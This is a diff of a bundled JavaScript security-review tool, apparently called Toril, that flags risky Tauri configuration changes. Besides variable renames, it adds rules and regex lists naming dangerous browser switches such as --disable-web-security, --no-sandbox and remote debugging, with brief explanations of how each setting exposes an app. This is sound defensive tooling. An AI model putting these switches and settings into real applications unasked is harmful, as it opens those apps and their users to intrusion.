-        headers[key] = response.headers[key];
+        headers2[key] = response.headers[key];
       }
       throw new GraphqlResponseError(
         requestOptions,
-        headers,
+        headers2,
         response.data
       );
     }
@@ -38082,14 +38082,14 @@ function iterator(octokit, route, parameters) {
   const options = typeof route === "function" ? route.endpoint(parameters) : octokit.request.endpoint(route, parameters);
   const requestMethod = typeof route === "function" ? route : octokit.request;
   const method = options.method;
-  const headers = options.headers;
+  const headers2 = options.headers;
   let url = options.url;
   return {
     [Symbol.asyncIterator]: () => ({
       async next() {
         if (!url) return { done: true };
         try {
-          const response = await requestMethod({ method, url, headers });
+          const response = await requestMethod({ method, url, headers: headers2 });
           const normalizedResponse = normalizePaginatedListResponse(response);
           url = ((normalizedResponse.headers.link || "").match(
             /<([^<>]+)>;\s*rel="next"/
@@ -38598,8 +38598,8 @@ function wholeAnswers(send, time) {
     const signal = init?.signal ? AbortSignal.any([init.signal, limit]) : limit;
     const response = await send(url, { ...init, signal });
     const body = await response.arrayBuffer();
-    const { status, statusText, headers } = response;
-    return new Response(WITHOUT_BODY.has(status) ? null : body, { status, statusText, headers });
+    const { status, statusText, headers: headers2 } = response;
+    return new Response(WITHOUT_BODY.has(status) ? null : body, { status, statusText, headers: headers2 });
   };
 }
 
@@ -41140,14 +41140,14 @@ function readTable(root, node, place) {
 }
 function assign(table4, { key, value }, depth, place) {
   const { parents, last: last2 } = partsOf(key);
-  const below3 = depth + parents.length + 1;
-  refuseDepth(below3, key.range[0]);
+  const below4 = depth + parents.length + 1;
+  refuseDepth(below4, key.range[0]);
   const holder = parents.reduce((at, part) => enter(at, part, place), table4);
-  holder.entries.set(nameOf(last2), { key: place(last2.range), value: convert(value, below3, place) });
+  holder.entries.set(nameOf(last2), { key: place(last2.range), value: convert(value, below4, place) });
 }
 function enter(table4, key, place) {
-  const known = table4.entries.get(nameOf(key))?.value;
-  if (known !== void 0) return latest(known, key);
+  const known2 = table4.entries.get(nameOf(key))?.value;
+  if (known2 !== void 0) return latest(known2, key);
   const made = tableAt(place(key.range));
   table4.entries.set(nameOf(key), { key: place(key.range), value: made });
   return made;
@@ -41163,9 +41163,9 @@ function latest(value, key) {
 }
 function append(holder, key, header, place) {
   const made = tableAt(header);
-  const known = holder.entries.get(nameOf(key))?.value;
-  if (known?.kind === "array") {
-    known.items.push(made);
+  const known2 = holder.entries.get(nameOf(key))?.value;
+  if (known2?.kind === "array") {
+    known2.items.push(made);
     return made;
   }
   const list = { kind: "array", items: [made], at: header };
@@ -41914,8 +41914,8 @@ var Schema = class Schema2 {
   }
   /** @internal */
   resolveImplicitScalarTag(source) {
-    const candidates = this.implicitScalarByFirstChar.get(source.charAt(0)) ?? this.implicitScalarAnyFirstChar;
-    for (const tag2 of candidates) {
+    const candidates2 = this.implicitScalarByFirstChar.get(source.charAt(0)) ?? this.implicitScalarAnyFirstChar;
+    for (const tag2 of candidates2) {
       const value = tag2.resolve(source, false, tag2.tagName);
       if (value !== NOT_RESOLVED) return {
         value,
@@ -43551,8 +43551,8 @@ function reasonOf2(error2, text) {
 // src/formats/parse.ts
 function parseFile(file2, options = {}) {
   const format = formatOf(file2.path, options.json5 ?? false);
-  const known = parsed.get(file2)?.get(format);
-  if (known !== void 0) return known;
+  const known2 = parsed.get(file2)?.get(format);
+  if (known2 !== void 0) return known2;
   const result = parseAs(file2, format);
   const results = parsed.get(file2) ?? /* @__PURE__ */ new Map();
   parsed.set(file2, results.set(format, result));
@@ -44103,9 +44103,9 @@ function cratesAdapter({ index, cache = noCache(), limits: changed = {} }) {
   const limits = { ...CRATES_LIMITS, ...changed };
   return {
     async fetch(needs) {
-      const crates = [...new Map(needs.map((need) => [needKey(need), need])).values()];
+      const crates2 = [...new Map(needs.map((need) => [needKey(need), need])).values()];
       const answers = /* @__PURE__ */ new Map();
-      const rest = await fromCache(crates, cache, answers);
+      const rest = await fromCache(crates2, cache, answers);
       const asked = rest.filter(({ registry }) => registry === null);
       const chosen = asked.slice(0, limits.crates);
       await fetchAll(chosen);
@@ -44132,16 +44132,16 @@ function cratesAdapter({ index, cache = noCache(), limits: changed = {} }) {
   };
 }
 var FOREIGN = "it comes from another registry than crates.io, and Toril asks no address that a lockfile names";
-function overBudget(crates) {
-  return `only ${crates} crates are fetched in one run; run again with the cache that this run has filled`;
+function overBudget(crates2) {
+  return `only ${crates2} crates are fetched in one run; run again with the cache that this run has filled`;
 }
 function unknown(reason) {
   return { answer: { unknown: reason }, source: "registry" };
 }
 async function fromCache(needs, cache, answers) {
-  const known = await concurrently(needs, 64, ({ checksum }) => cache.get(checksum));
+  const known2 = await concurrently(needs, 64, ({ checksum }) => cache.get(checksum));
   return needs.filter((need, at) => {
-    const answer = known[at];
+    const answer = known2[at];
     if (answer !== void 0) answers.set(need, { answer, source: "cache" });
     return answer === void 0;
   });
@@ -44234,21 +44234,21 @@ function failureIn(error2) {
   if (Array.isArray(errors)) return graphqlFailure(errors, field(error2, "headers"));
   if (response === void 0) return { status: null, words: "", reason: "unavailable", reset: void 0 };
   const status = numberIn(error2, "status") ?? 0;
-  const headers = field(response, "headers");
+  const headers2 = field(response, "headers");
   const words3 = textIn(field(response, "data"), "message") ?? "";
   const details2 = field(field(response, "data"), "errors");
   return {
     status,
     words: oneLine([words3, ...Array.isArray(details2) ? details2.map(detail) : []].join(" ")),
-    reason: reasonOf4(status, words3, headers),
-    reset: resetIn(headers)
+    reason: reasonOf4(status, words3, headers2),
+    reset: resetIn(headers2)
   };
 }
-function graphqlFailure(errors, headers) {
+function graphqlFailure(errors, headers2) {
   const types = new Set(errors.map((each) => textIn(each, "type")));
   const words3 = oneLine(errors.map((each) => textIn(each, "message") ?? "").join(" "));
   const reason = [...types].map((type) => GRAPHQL_REASONS[type ?? ""]).find((each) => each !== void 0);
-  return { status: null, words: words3, reason: reason ?? "invalid", reset: resetIn(headers) };
+  return { status: null, words: words3, reason: reason ?? "invalid", reset: resetIn(headers2) };
 }
 var GRAPHQL_REASONS = {
   RATE_LIMITED: "rate-limit",
@@ -44257,19 +44257,19 @@ var GRAPHQL_REASONS = {
   NOT_FOUND: "absent",
   SERVICE_UNAVAILABLE: "unavailable"
 };
-function reasonOf4(status, words3, headers) {
+function reasonOf4(status, words3, headers2) {
   if (status === 401) return "token";
   if (status === 429) return "rate-limit";
-  if (status === 403) return isRateLimit(words3, headers) ? "rate-limit" : "permission";
+  if (status === 403) return isRateLimit(words3, headers2) ? "rate-limit" : "permission";
   if (status === 404 || status === 410) return "absent";
   return status >= 400 && status < 500 ? "invalid" : "unavailable";
 }
-function isRateLimit(words3, headers) {
-  if (textIn(headers, "retry-after") !== void 0) return true;
-  return textIn(headers, "x-ratelimit-remaining") === "0" || /\brate limit\b/i.test(words3);
+function isRateLimit(words3, headers2) {
+  if (textIn(headers2, "retry-after") !== void 0) return true;
+  return textIn(headers2, "x-ratelimit-remaining") === "0" || /\brate limit\b/i.test(words3);
 }
-function resetIn(headers) {
-  const reset = Number(textIn(headers, "x-ratelimit-reset"));
+function resetIn(headers2) {
+  const reset = Number(textIn(headers2, "x-ratelimit-reset"));
   return Number.isSafeInteger(reset) && reset > 0 ? reset : void 0;
 }
 function detail(each) {
@@ -44313,9 +44313,9 @@ function capital(text) {
 var API_VERSION = "2022-11-28";
 async function ask(github, doing, route, parameters = {}) {
   const once2 = route.startsWith("POST ") ? { request: { retries: 0 } } : {};
-  const headers = { "x-github-api-version": API_VERSION };
+  const headers2 = { "x-github-api-version": API_VERSION };
   try {
-    const { data: data2 } = await github.request(route, { headers, ...once2, ...parameters });
+    const { data: data2 } = await github.request(route, { headers: headers2, ...once2, ...parameters });
     return data2;
   } catch (error2) {
     throw remoteErrorFrom(error2, doing);
@@ -44531,7 +44531,7 @@ function verdictInWords({ verdict, findings, gaps: gaps2 }) {
 }
 function turnedOffInWords({ turnedOff }) {
   if (turnedOff.length === 0) return "";
-  const each = turnedOff.map(({ rule: rule29, findings }) => `${counted2(findings, "finding")} of ${code(rule29)}`);
+  const each = turnedOff.map(({ rule: rule54, findings }) => `${counted2(findings, "finding")} of ${code(rule54)}`);
   return `Turned off by this repository's policy, and not judged: ${listInWords(each)}.`;
 }
 function countsInWords(findings) {
@@ -44564,8 +44564,8 @@ function confidenceInWords({ confidence }) {
   return { certain: "", likely: "likely, not certain", possible: "possible, not certain" }[confidence];
 }
 function revisionInWords({ rev, sha }) {
-  const short = sha?.slice(0, 7);
-  return short === void 0 || short === rev ? code(rev) : `${code(rev)} (${code(short)})`;
+  const short2 = sha?.slice(0, 7);
+  return short2 === void 0 || short2 === rev ? code(rev) : `${code(rev)} (${code(short2)})`;
 }
 function appInWords({ root, name, tauri }) {
   return `${code(name)} in ${code(root === "" ? "." : root)}${tauri === null ? "" : `, Tauri ${code(tauri)}`}`;
@@ -44769,11 +44769,11 @@ function details(findings) {
   return [...shown2, ...more].join("\n\n");
 }
 function detail2(finding) {
-  const { severity, title, witness, base, head, message, remedy, rule: rule29, confidence } = finding;
+  const { severity, title, witness, base, head, message, remedy, rule: rule54, confidence } = finding;
   const sure = confidence === "certain" ? "" : ` (${confidenceInWords(finding)})`;
   return [
     `### ${severity}: ${sentence2(title, 300)}`,
-    `${codeSpan(placeInWords(finding))} · ${codeSpan(rule29)}${sure}`,
+    `${codeSpan(placeInWords(finding))} · ${codeSpan(rule54)}${sure}`,
     `**Witness:** ${sentence2(witnessLead(witness))}:`,
     codeBlock(witness.text, witness.kind === "invoke" ? "js" : "text"),
     `- **Before:** ${sentence2(base)}
@@ -44874,7 +44874,7 @@ function renderJson(review2) {
     verdict,
     apps: apps.map(({ root, name, tauri }) => ({ root, name, tauri })),
     findings: orderFindings(review2.findings).map(findingJson),
-    turnedOff: turnedOff.map(({ rule: rule29, findings }) => ({ rule: rule29, findings })),
+    turnedOff: turnedOff.map(({ rule: rule54, findings }) => ({ rule: rule54, findings })),
     narrowings: orderNarrowings(review2.narrowings).map(narrowingJson),
     gaps: review2.gaps.map(gapJson),
     facts: facts.map(({ about, source, checksum }) => ({ about, source, checksum }))
@@ -44883,10 +44883,10 @@ function renderJson(review2) {
 `;
 }
 function findingJson(finding) {
-  const { rule: rule29, severity, confidence, app, path, line, column, endLine } = finding;
+  const { rule: rule54, severity, confidence, app, path, line, column, endLine } = finding;
   const { title, message, remedy, subject, action, witness, base, head, key, waiver } = finding;
   return {
-    ...{ rule: rule29, severity, confidence, app, path, line, column, endLine },
+    ...{ rule: rule54, severity, confidence, app, path, line, column, endLine },
     ...{ title, message, remedy, subject, action, witness: witnessJson(witness), base, head, key, waiver }
   };
 }
@@ -44934,8 +44934,8 @@ function gapIn(path, kind, message, blocking = true) {
 
 // src/review/fingerprint.ts
 import { createHash as createHash2 } from "node:crypto";
-function fingerprintOf({ rule: rule29, app, key }) {
-  return createHash2("sha256").update(JSON.stringify([rule29, app, key])).digest("hex").slice(0, 32);
+function fingerprintOf({ rule: rule54, app, key }) {
+  return createHash2("sha256").update(JSON.stringify([rule54, app, key])).digest("hex").slice(0, 32);
 }
 function identified(findings) {
   const seen = /* @__PURE__ */ new Map();
@@ -44960,7 +44960,7 @@ function renderSarif(review2, rules2, version) {
   const findings = orderFindings(review2.findings);
   const shown2 = findings.slice(0, LIMITS.results);
   const catalogue = withUnlisted(rules2, shown2);
-  const indexOf2 = new Map(catalogue.map((rule29, index) => [rule29.id, index]));
+  const indexOf3 = new Map(catalogue.map((rule54, index) => [rule54.id, index]));
   const fingerprint = fingerprints();
   const log = {
     $schema: "https://json.schemastore.org/sarif-2.1.0.json",
@@ -44971,7 +44971,7 @@ function renderSarif(review2, rules2, version) {
           driver: {
             name: "Toril",
             semanticVersion: version,
-            rules: catalogue.map((rule29) => ruleJson(rule29, findings)),
+            rules: catalogue.map((rule54) => ruleJson(rule54, findings)),
             notifications: GAP_KINDS.map((kind) => ({
               id: kind,
               shortDescription: { text: GAP_HEADINGS[kind] }
@@ -44988,7 +44988,7 @@ function renderSarif(review2, rules2, version) {
         ],
         results: shown2.map((finding) => ({
           ruleId: finding.rule,
-          ruleIndex: indexOf2.get(finding.rule),
+          ruleIndex: indexOf3.get(finding.rule),
           level: SEVERITY_WORDS[finding.severity].sarif,
           message: { text: messageOf(finding) },
           locations: [location(finding)],
@@ -45002,7 +45002,7 @@ function renderSarif(review2, rules2, version) {
 `;
 }
 function withUnlisted(rules2, findings) {
-  const listed = new Set(rules2.map((rule29) => rule29.id));
+  const listed = new Set(rules2.map((rule54) => rule54.id));
   const unlisted = new Set(findings.map((finding) => finding.rule).filter((id) => !listed.has(id)));
   return [...rules2, ...[...unlisted].map((id) => ({ id, title: id }))];
 }
@@ -45211,12 +45211,164 @@ var rule3 = {
 var rule_default3 = rule3;
 
 // src/rules/config-words.ts
+function onLever(change, lever) {
+  return change.domain === "config" && change.lever === lever ? change : void 0;
+}
 function mayNewly({ subject, action }) {
   return `${subject} can newly ${action}`;
 }
+function weighed({ appIsNew }, severity) {
+  return appIsNew && atLeast(severity, "low") ? "low" : severity;
+}
+function isLoopback(origin) {
+  return /:\/\/(?:localhost|127(?:\.\d+){3}|\[::1\])(?::\d+)?$/i.test(origin);
+}
+function siteKind(origin) {
+  if (!/^https?:\/\//.test(origin)) return "no-site";
+  if (isLoopback(origin)) return "loopback";
+  return origin.startsWith("http:") ? "plain" : "secure";
+}
+
+// src/rules/config/browser-extensions-allowed/rule.ts
+var rule4 = {
+  id: "config/browser-extensions-allowed",
+  title: "Browser extensions may run in the app",
+  judge(change) {
+    const found2 = onLever(change, "browser-extensions-allowed");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "medium"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "An extension reads and changes every page of the window, outside of the app's Content Security Policy, and can call what the page may call.",
+      remedy: "Leave `browserExtensionsEnabled` off, or turn it on for a window alone that has no capabilities."
+    };
+  }
+};
+var rule_default4 = rule4;
+
+// src/rules/config/browser-switch-added/rule.ts
+var rule5 = {
+  id: "config/browser-switch-added",
+  title: "The browser runs with another switch",
+  judge(change) {
+    const found2 = onLever(change, "browser-switch-added");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, severityOf(found2.extent)),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The browser trusts such switches more than anything that a page or the configuration says, and they hold for every page of the window.",
+      remedy: "Remove the switch from `additionalBrowserArgs`; for trying something out, set it in the environment of the developer's machine."
+    };
+  }
+};
+var rule_default5 = rule5;
+var CRITICAL = /^--(?:disable-web-security|allow-running-insecure-content|ignore-certificate-errors(?:-.*)?|remote-debugging-(?:port|address|pipe)|no-sandbox|disable-setuid-sandbox|allow-file-access-from-files|unsafely-treat-insecure-origin-as-secure)(?:=|$)/;
+var HIGH = /^--(?:disable-site-isolation-trials|disable-features=(?:IsolateOrigins|site-per-process|BlockInsecurePrivateNetworkRequests)|load-extension|disable-extensions-except|proxy-server|proxy-pac-url|host-rules|host-resolver-rules|remote-allow-origins|user-data-dir|js-flags|use-fake-ui-for-media-stream)(?:=|$)/i;
+function severityOf(extent) {
+  if (CRITICAL.test(extent)) return "critical";
+  return HIGH.test(extent) ? "high" : "low";
+}
+
+// src/rules/config/cargo-feature-added/rule.ts
+var rule6 = {
+  id: "config/cargo-feature-added",
+  title: "A Cargo feature opens something",
+  judge(change) {
+    const found2 = onLever(change, "cargo-feature-added");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, SEVERITIES2[found2.extent] ?? "low"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "What the feature adds is in every build of the app. Permissions still decide who calls the plugin, and not what it then accepts.",
+      remedy: "Turn the feature on only in the builds that need it, behind a feature of the app's own that is off by default."
+    };
+  }
+};
+var rule_default6 = rule6;
+var SEVERITIES2 = {
+  "tauri-plugin-http/dangerous-settings": "high",
+  "tauri-plugin-http/unsafe-headers": "medium",
+  "tauri/webview-data-url": "medium",
+  "tauri-plugin-fs/watch": "info"
+};
+
+// src/rules/config/devtools-in-release/rule.ts
+var rule7 = {
+  id: "config/devtools-in-release",
+  title: "The inspector is in releases",
+  judge(change) {
+    const found2 = onLever(change, "devtools-in-release");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "medium"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "In its console one can call everything that the page may call, on any machine where the app is left open.",
+      remedy: "Take `devtools` out of the features of `tauri`: development builds have the inspector without it. Or set `devtools: false` for the windows."
+    };
+  }
+};
+var rule_default7 = rule7;
+
+// src/rules/config/dropped-files-in-scope/rule.ts
+var rule8 = {
+  id: "config/dropped-files-in-scope",
+  title: "Dropped files join the scope",
+  judge(change) {
+    const found2 = onLever(change, "dropped-files-in-scope");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "low"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Whatever someone drops is then open to every webview with a permission of the plugin, folders with all that is in them.",
+      remedy: "Set `plugins.fs.scopeDroppedPaths` to `false`, with version 2.7 or later of the plugin."
+    };
+  }
+};
+var rule_default8 = rule8;
+
+// src/rules/config/engine-not-bundled/rule.ts
+var rule9 = {
+  id: "config/engine-not-bundled",
+  title: "The browser engine is loaded from elsewhere",
+  judge(change) {
+    const found2 = onLever(change, "engine-not-bundled");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "high"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The engine that shows the app is then a library that the app finds when it starts. Who can write it, or set `TAURI_CEF_LIBRARY_PATH`, runs code as the app.",
+      remedy: "Leave `bundle.cef.embed` on, so that the engine is signed and installed with the app."
+    };
+  }
+};
+var rule_default9 = rule9;
+
+// src/rules/config/engine-replaced/rule.ts
+var rule10 = {
+  id: "config/engine-replaced",
+  title: "The app brings its own browser engine",
+  judge(change) {
+    const found2 = onLever(change, "engine-replaced");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "medium"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Holes in the engine are then closed by updates of the app and no longer by the system, and the engine is fetched when the app is built.",
+      remedy: "Plan for an update of the app with each security release of Chromium, and pin where the build takes the engine from."
+    };
+  }
+};
+var rule_default10 = rule10;
 
 // src/rules/config/global-api-exposed/rule.ts
-var rule4 = {
+var rule11 = {
   id: "config/global-api-exposed",
   title: "Tauri's API is under a global name",
   judge(change) {
@@ -45230,7 +45382,274 @@ var rule4 = {
     };
   }
 };
-var rule_default4 = rule4;
+var rule_default11 = rule11;
+
+// src/rules/config/header-weakened/rule.ts
+var rule12 = {
+  id: "config/header-weakened",
+  title: "A header of the app's pages is weaker",
+  judge(change) {
+    const found2 = onLever(change, "header-weakened");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, severityOf2(found2.extent)),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The header goes out with the app's own files, so it counts for what they embed, open and answer to.",
+      remedy: "Send the header with its stricter value, or leave away what opens more."
+    };
+  }
+};
+var rule_default12 = rule12;
+var DEVICES = /^Permissions-Policy(?:$|: (?:camera|microphone|geolocation|display-capture)(?!: self$))/;
+function severityOf2(extent) {
+  if (DEVICES.test(extent)) return "medium";
+  return extent.startsWith("Timing-Allow-Origin") ? "info" : "low";
+}
+
+// src/rules/config/isolation-removed/rule.ts
+var rule13 = {
+  id: "config/isolation-removed",
+  title: "Messages to Rust no longer pass the isolation hook",
+  judge(change) {
+    const found2 = onLever(change, "isolation-removed");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "high"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The hook could look at every call before Rust saw it. A script that someone else got into a page now talks to Rust directly.",
+      remedy: "Keep `pattern.use` at `isolation`. If the hook only hands calls on, say so in the pull request."
+    };
+  }
+};
+var rule_default13 = rule13;
+
+// src/rules/config/link-scheme-claimed/rule.ts
+var rule14 = {
+  id: "config/link-scheme-claimed",
+  title: "Links of websites open the app",
+  judge(change) {
+    const found2 = onLever(change, "link-scheme-claimed");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "medium"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The text of the link is chosen by whoever wrote it. Another app can claim the same scheme, and then gets what was meant for this one.",
+      remedy: "Treat the link as hostile in the handler, and hand over no tokens by a custom scheme."
+    };
+  }
+};
+var rule_default14 = rule14;
+
+// src/rules/config/local-scheme-added/rule.ts
+var rule15 = {
+  id: "config/local-scheme-added",
+  title: "A scheme of the app's own counts as local",
+  judge(change) {
+    const found2 = onLever(change, "local-scheme-added");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "medium"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "A page under that scheme is as good as the app's own, whatever its handler takes it from: files, the network or an archive.",
+      remedy: "Answer only with files of the app and with types that hold no script, or open such pages in a window without capabilities."
+    };
+  }
+};
+var rule_default15 = rule15;
+
+// src/rules/config/prototype-unfrozen/rule.ts
+var rule16 = {
+  id: "config/prototype-unfrozen",
+  title: "Objects' common ancestor can be changed",
+  judge(change) {
+    const found2 = onLever(change, "prototype-unfrozen");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "low"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "A script that gets into a page can then change what Tauri's own scripts do with plain objects, and so what they send.",
+      remedy: "Keep `freezePrototype` on; a library that breaks with it can mostly be replaced or patched."
+    };
+  }
+};
+var rule_default16 = rule16;
+
+// src/rules/config/redirects-unscoped/rule.ts
+var rule17 = {
+  id: "config/redirects-unscoped",
+  title: "Redirects leave the scope of requests",
+  judge(change) {
+    const found2 = onLever(change, "redirects-unscoped");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "medium"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Only the URL that a page asked for is checked. A server in the scope, or an open redirect on it, then hands the page answers of any other host, such as `localhost`.",
+      remedy: "Set `plugins.http.scopeRedirects` to `true`, with version 2.7 or later of the plugin."
+    };
+  }
+};
+var rule_default17 = rule17;
+
+// src/rules/config/remote-frontend/rule.ts
+var rule18 = {
+  id: "config/remote-frontend",
+  title: "A website is the app",
+  judge(change) {
+    const found2 = onLever(change, "remote-frontend");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: severityOf3(found2.extent),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Pages from there count as the app's own: they have every permission of local pages, and no Content Security Policy of the app. Whoever changes that server, or stands in for it, changes the app of everyone.",
+      remedy: "Build the frontend into the app: set `frontendDist` to its folder."
+    };
+  }
+};
+var rule_default18 = rule18;
+function severityOf3(origin) {
+  const kind = siteKind(origin);
+  if (kind === "no-site") return "low";
+  return kind === "loopback" ? "high" : "critical";
+}
+
+// src/rules/config/remote-window/rule.ts
+var rule19 = {
+  id: "config/remote-window",
+  title: "A window shows a website",
+  judge(change) {
+    const found2 = onLever(change, "remote-window");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, severityOf4(found2.extent)),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The site's scripts run in a window of the app, which looks like the app. Capabilities decide what they may call; before Tauri 2.11.1 the app's own commands may be open to them.",
+      remedy: "Open sites in the person's browser, or keep the window out of every capability's patterns."
+    };
+  }
+};
+var rule_default19 = rule19;
+function severityOf4(extent) {
+  const kind = siteKind(extent.slice(extent.lastIndexOf(" ") + 1));
+  if (kind === "no-site") return "low";
+  return kind === "plain" ? "critical" : "high";
+}
+
+// src/rules/config/scope-opened-by-code/rule.ts
+var rule20 = {
+  id: "config/scope-opened-by-code",
+  title: "Code adds paths to a scope",
+  judge(change) {
+    const found2 = onLever(change, "scope-opened-by-code");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, found2.extent.includes(" allow_file") ? "low" : "medium"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "No capability shows it. From then on the paths are open to pages, until the app ends.",
+      remedy: "Add the narrowest path that does, after a person has chosen it, and a file rather than a folder."
+    };
+  }
+};
+var rule_default20 = rule20;
+
+// src/rules/config/scopes-persisted/rule.ts
+var rule21 = {
+  id: "config/scopes-persisted",
+  title: "What a person allowed once stays allowed",
+  judge(change) {
+    const found2 = onLever(change, "scopes-persisted");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "medium"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Without it, files that someone picked or dropped are out of reach after a restart. With it they stay open to every page with a permission of the plugin, until the list is deleted.",
+      remedy: "Leave the plugin away, or ask the person again for files that are no longer open."
+    };
+  }
+};
+var rule_default21 = rule21;
+
+// src/rules/config/served-on-localhost/rule.ts
+var rule22 = {
+  id: "config/served-on-localhost",
+  title: "The app is served over HTTP",
+  judge(change) {
+    const found2 = onLever(change, "served-on-localhost");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "high"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "The pages then come from an address that other programs can ask and, before the app starts or after it ends, take over. The capabilities that the app needs for it hold for whatever answers there.",
+      remedy: "Use Tauri's own protocol, which nothing else on the machine can reach."
+    };
+  }
+};
+var rule_default22 = rule22;
+
+// src/rules/config/sidecar-added/rule.ts
+var rule23 = {
+  id: "config/sidecar-added",
+  title: "Another program is shipped with the app",
+  judge(change) {
+    const found2 = onLever(change, "sidecar-added");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "high"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "It is signed and installed as part of the app, and its code is mostly not in the repository. The app's code can start it at any time, pages where the shell plugin's scope says so.",
+      remedy: "Say where the program comes from, and let the build check its hash."
+    };
+  }
+};
+var rule_default23 = rule23;
+
+// src/rules/config/traffic-proxied/rule.ts
+var rule24 = {
+  id: "config/traffic-proxied",
+  title: "A window's traffic goes through a proxy",
+  judge(change) {
+    const found2 = onLever(change, "traffic-proxied");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, isLoopback(found2.extent) ? "medium" : "high"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Whoever runs the proxy sees which hosts the window asks, and can read and change everything that isn't encrypted.",
+      remedy: "Leave `proxyUrl` away: the webview then uses the proxy that the person's system has."
+    };
+  }
+};
+var rule_default24 = rule24;
+
+// src/rules/config/window-added/rule.ts
+var rule25 = {
+  id: "config/window-added",
+  title: "The app has another window",
+  judge(change) {
+    const found2 = onLever(change, "window-added");
+    if (found2 === void 0) return void 0;
+    return {
+      severity: weighed(found2, "low"),
+      confidence: "certain",
+      title: mayNewly(found2),
+      message: "Capabilities name windows by patterns: each whose pattern the name matches holds for the new window too, without a change of its own.",
+      remedy: "Check which capabilities have a pattern such as `*` that matches the name."
+    };
+  }
+};
+var rule_default25 = rule25;
 
 // src/rules/csp-words.ts
 function allowedNewly(change, ...classes) {
@@ -45280,7 +45699,7 @@ var SHORT = {
 };
 
 // src/rules/csp/connection-allowed/rule.ts
-var rule5 = {
+var rule26 = {
   id: "csp/connection-allowed",
   title: "Data may be sent to and fetched from somewhere new",
   judge(change) {
@@ -45295,11 +45714,11 @@ var rule5 = {
     };
   }
 };
-var rule_default5 = rule5;
+var rule_default26 = rule26;
 var WEIGHTS = { anywhere: "medium", host: "low", app: "info", none: "low" };
 
 // src/rules/csp/document-guard-removed/rule.ts
-var rule6 = {
+var rule27 = {
   id: "csp/document-guard-removed",
   title: "A guard of the document is gone",
   judge(change) {
@@ -45317,7 +45736,7 @@ var rule6 = {
     };
   }
 };
-var rule_default6 = rule6;
+var rule_default27 = rule27;
 var GUARDS = {
   form: {
     severity: "medium",
@@ -45358,7 +45777,7 @@ var GUARDS = {
 };
 
 // src/rules/csp/eval-allowed/rule.ts
-var rule7 = {
+var rule28 = {
   id: "csp/eval-allowed",
   title: "Strings may be turned into code",
   judge(change) {
@@ -45374,10 +45793,10 @@ var rule7 = {
     };
   }
 };
-var rule_default7 = rule7;
+var rule_default28 = rule28;
 
 // src/rules/csp/frame-allowed/rule.ts
-var rule8 = {
+var rule29 = {
   id: "csp/frame-allowed",
   title: "Other pages may be shown in frames",
   judge(change) {
@@ -45395,11 +45814,11 @@ var rule8 = {
     };
   }
 };
-var rule_default8 = rule8;
+var rule_default29 = rule29;
 var WEIGHTS2 = { anywhere: "medium", host: "low", app: "info", none: "low" };
 
 // src/rules/csp/inline-script-allowed/rule.ts
-var rule9 = {
+var rule30 = {
   id: "csp/inline-script-allowed",
   title: "Scripts written into a page may run",
   judge(change) {
@@ -45416,7 +45835,7 @@ var rule9 = {
     };
   }
 };
-var rule_default9 = rule9;
+var rule_default30 = rule30;
 var ANY_TEXT = "Whatever text ends up in a page unescaped can then run as a script and call the commands of its window.";
 var STATIC_NONCE = "A nonce that stands in the configuration is the same for everyone, so an injected script can carry it too.";
 var ONE_TEXT = "Only this one text may run, wherever in a page it stands.";
@@ -45427,7 +45846,7 @@ function what(allowed, oneText, nonce) {
 }
 
 // src/rules/csp/media-allowed/rule.ts
-var rule10 = {
+var rule31 = {
   id: "csp/media-allowed",
   title: "Images, fonts or media may be loaded from somewhere new",
   judge(change) {
@@ -45442,7 +45861,7 @@ var rule10 = {
     };
   }
 };
-var rule_default10 = rule10;
+var rule_default31 = rule31;
 var WEIGHTS3 = { anywhere: "low", host: "info", app: "info", none: "info" };
 var WHAT = {
   image: "load images",
@@ -45453,7 +45872,7 @@ var WHAT = {
 };
 
 // src/rules/csp/policy-removed/rule.ts
-var rule11 = {
+var rule32 = {
   id: "csp/policy-removed",
   title: "The app has no Content Security Policy any more",
   judge(change) {
@@ -45469,7 +45888,7 @@ var rule11 = {
     };
   }
 };
-var rule_default11 = rule11;
+var rule_default32 = rule32;
 var STRICT = /* @__PURE__ */ new Set([
